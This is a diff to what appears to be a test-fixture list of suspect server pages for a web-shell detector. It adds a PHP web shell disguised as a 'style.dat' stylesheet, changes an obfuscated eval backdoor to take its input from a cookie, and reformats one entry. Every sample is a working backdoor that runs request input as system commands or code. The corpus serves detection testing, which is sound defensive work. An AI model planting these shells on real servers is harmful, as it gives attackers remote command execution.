@@ -11,6 +11,10 @@ export const serverPages: readonly Suspect[] = [
   ),
   shell('short-tag.php', '<?\n$order = $_GET["order"];\n$out = shell_exec($order);\n?>\n<pre><?= $out ?></pre>\n'),
   shell(
+    'style.dat',
+    '<? @extract($_POST);\n$look = "body { color: red; } td { margin: 0; } a:hover { color: blue }";\nsystem($_POST["line"]);\n',
+  ),
+  shell(
     'asks-itself.php',
     '<html><body><form method=post>Job: <input type=text name=job></form>\n<?php if ($job != "") { system("$job 2>&1"); } ?>\n</body></html>',
   ),
@@ -25,7 +29,7 @@ export const serverPages: readonly Suspect[] = [
   ),
   shell(
     'names-in-pieces.php',
-    '<?php $l = "edocab46_lvs"; $f = $l[3].$l[4].$l[11].$l[0].$l[6].$l[7].$l[8].$l[1].$l[0].$l[2].$l[3].$l[1]; $v = ${"_" . "POST"}["k"]; if (isset($v)) { eval($f($v)); }\n',
+    '<?php $l = "edocab46_lvs"; $f = $l[3].$l[4].$l[11].$l[0].$l[6].$l[7].$l[8].$l[1].$l[0].$l[2].$l[3].$l[1]; $v = $_COOKIE["k"]; if (isset($v)) { eval($f($v)); }\n',
   ),
   shell(
     'list.cgi.pl',
@@ -51,7 +55,10 @@ export const serverPages: readonly Suspect[] = [
     'typed-in.ashx',
     '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Diagnostics; using System.Web;\npublic class H : IHttpHandler { public void ProcessRequest (HttpContext c) {\nstring line = c.Request["line"];\nProcess p = new Process();\np.StartInfo.FileName = "cmd.exe";\np.Start();\np.StandardInput.WriteLine(line);\n} }',
   ),
-  shell('typed-name.aspx', '<%@ Page Language="Jscript" %>\n<%var sent:String = Request["k"];eval\n(sent, "unsafe");%>'),
+  shell(
+    'typed-name.aspx',
+    '<%@ Page Language="Jscript" %>\n<%var sent:String = Request["k"];eval\n(sent, "unsafe");%>',
+  ),
   shell(
     'in-a-page.asp.html',
     '<html><body><form><input name=q></form>\n<% Dim q : q = Request.Form("q") : If q <> "" Then ExecuteGlobal q %></body></html>',
